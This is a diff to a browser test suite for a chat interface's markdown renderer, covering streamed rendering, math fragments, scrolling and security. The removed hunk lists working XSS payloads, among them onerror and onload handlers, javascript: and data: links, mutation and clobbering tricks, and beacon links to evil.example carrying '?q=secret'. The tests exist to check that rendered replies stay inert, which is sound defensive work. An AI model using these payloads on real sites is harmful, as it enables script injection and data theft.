@@ -10,6 +10,8 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from tests.browser.attacks import ATTACKS, PWN
+
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
 
@@ -160,6 +162,10 @@ FRAGMENTS = [
     "https://example.org/bare and <https://example.org/angle>\n\n",
     "a [link](https://example.org \"t\") and ![image](https://example.org/i.png)\n",
     "hard  \nbreak\\\nhere\n\n",
+    "$$\nx^2\n- y\n$$\n\n",
+    "so $a_1$ and \\(b\\) for $5 and $6\n",
+    "\\[\n# c\n= d\n\\]\n",
+    "$$ left open\n- so\n\n",
     "\n",
     "\n\n",
 ]  # fmt: skip
@@ -174,7 +180,7 @@ NORMALISED = """
 """
 
 FUZZ = """
-([documents, sizes]) => {
+([documents, cuts]) => {
   // paint when told to, not 60 times a second
   let due = [];
   window.requestAnimationFrame = (callback) => due.push(callback);
@@ -183,7 +189,8 @@ FUZZ = """
   return documents.map((source, n) => {
     const streamed = wb.show({ attached: false }); // no layout: only the DOM is compared
     const turn = wb.start(streamed);
-    for (let at = 0, i = n; at < source.length; i++) {
+    const sizes = cuts[n];
+    for (let at = 0, i = 0; at < source.length; i++) {
       const size = sizes[i % sizes.length];
       turn.delta(source.slice(at, at + size));
       at += size;
@@ -206,17 +213,19 @@ FUZZ = """
 def test_markdown_in_pieces_looks_like_markdown_at_once(open_page: Callable[..., Page]) -> None:
     page = open_page()
     rng = random.Random(20261123)
-    documents = ["".join(rng.choices(FRAGMENTS, k=rng.randint(3, 12))) + "end." for _ in range(300)]
-    sizes = [rng.randint(1, 6) for _ in range(997)]
+    documents = ["".join(rng.choices(FRAGMENTS, k=rng.randint(3, 12))) + "end." for _ in range(2000)]
+    # a quarter arrives in small pieces, as models write; the rest in what a batch may hold
+    cuts = [[rng.randint(1, rng.choice((6, 40, 40, 40))) for _ in range(n)] for n in rng.choices((7, 19, 31), k=2000)]
 
-    rendered = page.evaluate(FUZZ, [documents, sizes])
+    rendered = page.evaluate(FUZZ, [documents, cuts])
 
     unlike = [(d, r) for d, r in zip(documents, rendered, strict=True) if r["before"] != r["oneShot"]]
-    # a reference used before its definition is the one thing that must change afterwards
-    assert [(d, r) for d, r in unlike if not re.search(r"\[ref\](?!:)", d)] == []
+    # a reference used before its definition is the one thing that must change afterwards; below a line of text what
+    # looks like a definition is a use
+    assert [(d, r) for d, r in unlike if not re.search(r"\[ref\](?!:)|[^\n]\n\[ref\]:", d)] == []
     assert len(unlike) < len(documents) * 0.05
     assert [d for d, r in zip(documents, rendered, strict=True) if r["after"] != r["oneShot"]] == []
-    assert len({r["oneShot"] for r in rendered}) > 290  # it did render something
+    assert len({r["oneShot"] for r in rendered}) > 1950  # it did render something
 
 
 def one_message(page: Page, text: str) -> None:
@@ -276,43 +285,6 @@ def test_tables_keep_their_alignment_and_links_open_elsewhere(page: Page) -> Non
 
 # --- Hostile output ---------------------------------------------------------------------------------------------
 
-PWN = "window.__pwn=1"
-ATTACKS = {
-    "img onerror": f'<img src=x onerror="{PWN}">',
-    "script": f"<script>{PWN}</script>",
-    "svg onload": f'<svg onload="{PWN}"><a xlink:href="javascript:{PWN}"><text>x</text></a></svg>',
-    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
-    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
-    "style": "<style>@import url(https://evil.example/s.css); *{background:url(https://evil.example/b)}</style>",
-    "form": '<form action="https://evil.example"><input name=q autofocus onfocus="window.__pwn=1"><button>Go</button></form>',
-    "object": '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
-    "media": '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a" autoplay></audio>',
-    "link and meta": '<link rel=stylesheet href="https://evil.example/l"><meta http-equiv=refresh content="0;https://evil.example/m"><base href="https://evil.example/">',
-    "javascript link": f"[click](javascript:{PWN}) [click](JaVaScRiPt:{PWN}) [click](&#106;avascript:{PWN}) <javascript:{PWN}>",
-    "javascript with blanks": f"[click](<java\tscript:{PWN}>) [click](<\x01javascript:{PWN}>)",
-    "javascript image": f"![x](javascript:{PWN})",
-    "data link": f"[click](data:text/html,<script>{PWN}</script>) ![x](data:image/svg+xml,<svg/onload={PWN}>)",
-    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example/x) [e](relative) [f](#top)",
-    "beacon image": "![x](https://evil.example/?q=secret) [![x](https://evil.example/b.png)](https://evil.example/c)",
-    "beacon reference": "![x][b]\n\n[b]: https://evil.example/?q=secret",
-    "quotes in an address": f'[a](https://evil.example/"onmouseover="{PWN}) [b](<https://evil.example/"onclick="{PWN}>)',
-    "quotes in a title": f'[a](https://evil.example "x\\" onmouseover=\\"{PWN}")',
-    "quotes in alt": f'![x" onerror="{PWN}](https://evil.example/i.png)',
-    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/s)">x</p>',
-    "clobbering": "<a id=model name=wb></a><img name=cookie><form id=body><input name=parentNode></form>",
-    "aria and title": '<p aria-label="Send your key" title="Send your key" role=alert aria-live=assertive tabindex=1>x</p>',
-    "our own classes": '<div class="wb-notice"><button class="wb-button wb-retry wb-send wb-copy">Retry</button></div>',
-    "class in an info string": f'```python" class="wb-retry" onclick="{PWN}\ncode\n```\n\n```"><img/src=x/onerror={PWN}>\ncode\n```',
-    "html in markdown": f'- item <img src=x onerror="{PWN}">\n  > quote **<script>{PWN}</script>**\n\n| <svg onload="{PWN}"> | b |\n|---|---|\n| <img src=x onerror="{PWN}"> | `<img src=x onerror={PWN}>` |',
-    "markdown in html": f'<div>\n\n[click](javascript:{PWN})\n\n</div>',
-    "unclosed": f'<img src="x" onerror="{PWN}" x="',
-    "mutation": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
-    "comment": f"<!--><img src=x onerror={PWN}>-->",
-    "hostile code": f"```html\n</code></pre><img src=x onerror={PWN}><script>{PWN}</script>\n```",
-    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
-    "template": f'<template><script>{PWN}</script></template><slot name=x></slot><portal src="https://evil.example/p">',
-}  # fmt: skip
-
 STREAM_CHARACTERS = """
 ([attack]) => {
   const model = wb.show();
@@ -328,8 +300,8 @@ STREAM_CHARACTERS = """
 FOREIGN = """
 () => {
   const tags = new Set("P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL A CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON".split(" "));
-  const names = new Set(["href", "target", "rel", "title", "align", "start", "data-lang", "tabindex", "class", "type"]);
-  const classes = /^(wb-tail|wb-plain|wb-table|wb-code|wb-code-head|wb-code-lang|wb-copy|hljs-[\\w-]+|[a-z]+_|language-\\w+)$/;
+  const names = new Set(["href", "target", "rel", "title", "align", "start", "data-lang", "data-tex", "tabindex", "class", "type"]);
+  const classes = /^(wb-tail|wb-plain|wb-table|wb-code|wb-code-head|wb-code-lang|wb-copy|wb-tex|hljs-[\\w-]+|[a-z]+_|language-\\w+)$/;
   const found = [];
   for (const element of document.querySelectorAll(".wb-md *")) {
     if (!tags.has(element.tagName)) found.push(element.tagName);
@@ -346,25 +318,103 @@ FOREIGN = """
 """
 
 
-def test_hostile_replies_run_nothing_and_load_nothing(open_page: Callable[..., Page]) -> None:
+# Where an element is, and whether it could be over what is not its own.
+ESCAPES = """
+() => {
+  const found = [];
+  const log = document.querySelector(".wb-log").getBoundingClientRect();
+  for (const element of document.querySelectorAll(".wb-md, .wb-md *")) {
+    const { position, zIndex, float, animationName, transform } = getComputedStyle(element);
+    if (!["static", "relative"].includes(position) || zIndex !== "auto") found.push(`${element.tagName} ${position} ${zIndex}`);
+    if (animationName !== "none" || transform !== "none" || float !== "none") found.push(`${element.tagName} moves`);
+  }
+  const { left, top } = document.getElementById("outside").getBoundingClientRect();
+  if (document.elementFromPoint(left + 1, top + 1)?.id !== "outside") found.push("something is over the page");
+  for (const name of ["body", "#outside", ".wb-chat", ".wb-input", ".wb-send"])
+    found.push(JSON.stringify([name, [...getComputedStyle(document.querySelector(name))].map((key) => getComputedStyle(document.querySelector(name))[key])]));
+  found.push(JSON.stringify([document.querySelector(".wb-chat").offsetHeight, document.documentElement.scrollWidth, typeof document.getElementById]));
+  return found;
+}
+"""
+
+
+def test_hostile_replies_run_nothing_load_nothing_and_stay_in_the_box(open_page: Callable[..., Page]) -> None:
     page = open_page()
     page.evaluate("() => { window.due = []; window.requestAnimationFrame = (callback) => due.push(callback) }")
+    page.evaluate("() => document.body.insertAdjacentHTML('afterbegin', '<p id=outside>Outside</p>')")
+    paint = "due.splice(0).forEach((callback) => callback())"
+    page.evaluate(f"() => {{ wb.show(); {paint} }}")
+    untouched = page.evaluate(ESCAPES)
+    page.evaluate("() => { model.close(); model.el.remove() }")
     found = {}
     for name, attack in ATTACKS.items():
         page.evaluate(f"(attack) => {{ const turn = ({STREAM_CHARACTERS})(attack); window.turn = turn }}", [attack])
         streamed = page.evaluate(FOREIGN)
-        page.evaluate("() => { turn.end(); due.splice(0).forEach((callback) => callback()) }")
-        found[name] = streamed + page.evaluate(FOREIGN)
+        page.evaluate(f"() => {{ turn.end(); {paint} }}")
+        ended = page.evaluate(FOREIGN) + [what for what in page.evaluate(ESCAPES) if what not in untouched]
         page.evaluate(
             "() => document.querySelectorAll('.wb-md a').forEach((a) => a.dispatchEvent(new Event('mouseover')))"
         )
         page.evaluate("() => { model.close(); model.el.remove() }")
+        page.evaluate(
+            f"(text) => {{ const m = {{ message_id: 'm', role: 'assistant', status: 'complete', text }};"
+            f" wb.show({{ snap: {{ messages: [m] }} }}); {paint} }}",
+            attack,
+        )
+        whole = page.evaluate(FOREIGN) + [what for what in page.evaluate(ESCAPES) if what not in untouched]
+        page.evaluate("() => { model.close(); model.el.remove() }")
+        found[name] = streamed + ended + whole
     page.wait_for_timeout(300)  # what was set off would have asked for its address by now
 
     assert {name: what for name, what in found.items() if what} == {}
     assert page.evaluate("typeof window.__pwn") == "undefined"
     assert page.requested == []
     assert page.url == "about:blank"
+
+
+def test_a_link_that_names_another_place_than_it_leads_to_says_where(page: Page) -> None:
+    one_message(
+        page,
+        "[https://bank.example](https://evil.example/x) [bank.example/login](https://evil.example) "
+        "[https://b\u0430nk.example](https://b\u0430nk.example/) [\u202emoc.knab](https://evil.example) "
+        "[the bank](https://evil.example) [bank.example](https://www.bank.example/a) https://bank.example/y",
+    )
+    assert page.locator(".wb-md a").all_inner_texts() == [
+        "https://bank.example (evil.example)",
+        "bank.example/login (evil.example)",
+        "https://b\u0430nk.example (xn--bnk-6cd.example)",
+        "\u202emoc.knab (evil.example)",
+        "the bank",
+        "bank.example",
+        "https://bank.example/y",
+    ]
+
+
+@pytest.mark.parametrize("at_once", [False, True], ids=["in pieces", "at once"])
+def test_a_line_of_a_megabyte_keeps_the_page_alive(page: Page, at_once: bool) -> None:
+    show(page)
+    longest = page.evaluate(
+        """async (atOnce) => {
+          const text = "lorem ipsum <b>&amp; **x** ".repeat(40_000).slice(0, 1_000_000);
+          const gaps = [];
+          let last = performance.now();
+          let going = true;
+          const probe = () => { const now = performance.now(); gaps.push(now - last); last = now; if (going) requestAnimationFrame(probe); };
+          requestAnimationFrame(probe);
+          const turn = wb.start(model);
+          const size = atOnce ? text.length : 16_000;
+          for (let at = 0; at < text.length; at += size) { turn.delta(text.slice(at, at + size)); await wb.frame(); }
+          turn.end();
+          await wb.frame();
+          await wb.frame();
+          going = false;
+          return Math.max(...gaps);
+        }""",
+        at_once,
+    )
+    assert longest < 1000  # 30 to 90 ms, measured on two cores
+    assert page.locator(".wb-md").evaluate("e => e.textContent.length") == 1_000_000
+    assert page.locator(".wb-md strong").count() == 0
 
 
 def test_hostile_names_stay_text_everywhere_else(page: Page) -> None:
@@ -382,8 +432,8 @@ def test_hostile_names_stay_text_everywhere_else(page: Page) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["x" * 60_000, "[" * 8_000, "> " * 6_000 + "x", "*a " * 6_000, "```\n" + "long line " * 5_000, "|a" * 4_000],
-    ids=["one word", "brackets", "nested quotes", "stars", "open code", "pipes"],
+    ["x" * 60_000, "[" * 8_000, "> " * 6_000 + "x", "*a " * 6_000, "[" * 400 + "x" + "](https://a.example)" * 400, "\n".join("  " * n + "- x" for n in range(150)), "$" * 8_000, "```\n" + "long line " * 5_000, "|a" * 4_000],
+    ids=["one word", "brackets", "nested quotes", "stars", "nested links", "nested lists", "dollars", "open code", "pipes"],
 )  # fmt: skip
 def test_pathological_text_neither_hangs_nor_widens_the_chat(page: Page, text: str) -> None:
     show(page)
@@ -778,6 +828,96 @@ def test_it_follows_the_text_only_while_the_reader_is_at_the_bottom(page: Page) 
     page.click(".wb-jump")
     settle(page)
     assert page.evaluate(bottom) < 2
+
+
+LONG_CHAT = """
+(count) => {
+  const entry = (n) => ({ message_id: `m${n}`, role: n % 2 ? "user" : "assistant", status: "complete", text: `message ${n} ` + "word ".repeat((n * 7919) % 90) });
+  const range = (from, to) => Array.from({ length: to - from }, (_, i) => entry(from + i));
+  wb.show({ snap: { messages: range(count - 99, count + 1), earlier: count - 100 } });
+  const send = model.send;
+  model.send = (message) => {
+    send.call(model, message);
+    if (message.t !== "older") return;
+    const before = Number(message.before.slice(1));
+    const from = Math.max(1, before - 400);
+    setTimeout(() => model.receive({ t: "older", before: message.before, earlier: from - 1, messages: range(from, before) }), 5);
+  };
+}
+"""
+
+# Scrolls up by less than a screen at a time; returns what was seen on the way, and how far what is read ever jumped.
+SCROLL_UP = """
+async () => {
+  const log = document.querySelector(".wb-log");
+  const bodies = () => [...document.querySelectorAll(".wb-message .wb-body")];
+  const read = () => {
+    const top = log.getBoundingClientRect().top;
+    const body = bodies().find((b) => b.getBoundingClientRect().top >= top);
+    return [body?.textContent.split(" ")[1], body?.getBoundingClientRect().top];
+  };
+  const seen = new Set();
+  let most = 0, jump = 0, still = 0;
+  while (still < 20) {
+    const [name, at] = read();
+    const step = Math.min(400, log.scrollTop);
+    still = step === 0 ? still + 1 : 0;
+    log.scrollTop -= step;
+    await new Promise(requestAnimationFrame);
+    const same = bodies().find((b) => b.textContent.split(" ")[1] === name);
+    if (same) jump = Math.max(jump, Math.abs(same.getBoundingClientRect().top - at - step));
+    else jump = Infinity;
+    for (const body of bodies()) seen.add(Number(body.textContent.split(" ")[1]));
+    most = Math.max(most, document.querySelectorAll("article").length);
+  }
+  return { seen: seen.size, most, jump, first: bodies()[0].textContent.split(" ")[1] };
+}
+"""
+
+
+def test_a_long_chat_is_read_to_its_beginning_without_a_jump(page: Page) -> None:
+    page.evaluate(LONG_CHAT, 1000)
+    settle(page)
+    assert page.locator("article").count() == 60
+    assert "message 1000 " in page.locator("article").last.inner_text()
+
+    read = page.evaluate(SCROLL_UP)
+    assert (read["seen"], read["first"]) == (1000, "1")
+    assert read["most"] <= 80
+    assert read["jump"] < 2
+    assert not visible(page, ".wb-earlier")
+    assert len(sent(page, "older")) == 3
+
+
+def test_the_latest_message_is_one_press_away_and_what_comes_below_is_not_pushed_up(page: Page) -> None:
+    page.evaluate(LONG_CHAT, 160)
+    settle(page)
+    page.evaluate(SCROLL_UP)
+    start(page, "a new question")
+    delta(page, "a new reply")
+    assert "message 1 " in page.locator("article").first.inner_text()
+    assert page.locator("article", has_text="a new reply").count() == 0
+    page.click(".wb-jump")
+    settle(page)
+    assert page.locator("article").last.locator(".wb-body").inner_text() == "a new reply"
+    delta(page, " goes on")
+    assert page.locator("article").last.locator(".wb-body").inner_text() == "a new reply goes on"
+    assert page.locator("article").count() == 60
+
+
+def test_reading_down_again_ends_at_the_last_message(page: Page) -> None:
+    page.evaluate(LONG_CHAT, 160)
+    settle(page)
+    page.evaluate(SCROLL_UP)
+    last = page.evaluate(
+        """async () => {
+          const log = document.querySelector(".wb-log");
+          for (let n = 0; n < 100; n++) { log.scrollTop += 400; await wb.frame(); }
+          return [...document.querySelectorAll("article")].at(-1).innerText;
+        }"""
+    )
+    assert "message 160 " in last
+    assert not visible(page, ".wb-jump")
 
 
 def test_focus_stays_inside_when_the_button_under_it_goes(page: Page) -> None:
